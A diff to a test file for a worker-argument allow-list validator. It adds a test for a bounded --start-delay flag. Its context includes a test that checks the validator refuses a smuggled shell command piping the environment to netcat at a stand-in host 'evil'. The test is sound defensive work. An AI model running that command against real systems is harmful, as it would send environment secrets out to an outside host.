@@ -14,6 +14,11 @@ describe('worker args: only allow-listed flags with checked values', () => {
     ]);
   });
 
+  it("passes dummy-service's --start-delay (the missed-stop test's late joiner), bounded", () => {
+    expect(dummy(['--start-delay=3']).targets[0].args).toEqual(['--start-delay', '3']);
+    expect(errorsOf(() => dummy(['--start-delay', '601'])).errors[0].message).toBe('--start-delay takes a number from 0 to 600 (got "601")');
+  });
+
   it('refuses a shell, naming the argument and the flags the target accepts', () => {
     const { errors } = errorsOf(() => dummy(['sh', '-c', 'env | nc evil 1']));
     expect(errors[0]).toEqual({ path: 'targets.0.args.0', message: expect.stringMatching(/^"sh" is not a flag dummy-service accepts; accepted flags: --debug, --noop/) });
